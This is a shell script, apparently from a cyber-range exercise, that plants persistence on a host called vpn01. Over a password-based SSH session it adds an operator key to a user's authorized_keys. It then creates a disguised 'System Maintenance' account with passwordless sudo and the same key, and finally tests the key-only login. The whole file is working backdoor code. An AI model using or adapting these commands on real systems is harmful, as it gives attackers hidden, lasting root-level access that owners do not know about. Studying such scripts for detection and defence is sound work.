#!/bin/sh
# Persistence on vpn01: an SSH key for hoshu and a new sudo account "{{backdoor_user}}" with the same key.
. /root/ops/common.sh
pw=$(hoshu_pw)
[ -n "$pw" ] || { log "persist: no password"; exit 1; }
[ -f "$KEY" ] || ssh-keygen -q -t ed25519 -N '' -C 'oper@vps-3321' -f "$KEY"
PUB=$(cat "$KEY.pub")
log "persist session as hoshu"
typed <<CMDS | timeout 150 sshpass -p "$pw" ssh -tt $SSHO -o PubkeyAuthentication=no "hoshu@$TARGET" > "$OPS/session-persist.log" 2>&1
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo '$PUB' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
sudo useradd -m -s /bin/bash -c "System Maintenance" {{backdoor_user}}
echo '{{backdoor_user}} ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/90-{{backdoor_user}} >/dev/null
sudo chmod 440 /etc/sudoers.d/90-{{backdoor_user}}
sudo install -d -m 700 -o {{backdoor_user}} -g {{backdoor_user}} /home/{{backdoor_user}}/.ssh
echo '$PUB' | sudo tee /home/{{backdoor_user}}/.ssh/authorized_keys >/dev/null
sudo chown {{backdoor_user}}:{{backdoor_user}} /home/{{backdoor_user}}/.ssh/authorized_keys
sudo chmod 600 /home/{{backdoor_user}}/.ssh/authorized_keys
exit
CMDS
log "persist done rc=$?"
# The backdoor works when the key alone logs in as {{backdoor_user}}. (Range hosts run with
# no-new-privileges, so {{backdoor_user}}'s sudo rule is a planted trace, not a working path.)
ssh $SSHO -o BatchMode=yes -i "$KEY" "{{backdoor_user}}@$TARGET" 'id' >> "$OPS/op.log" 2>&1
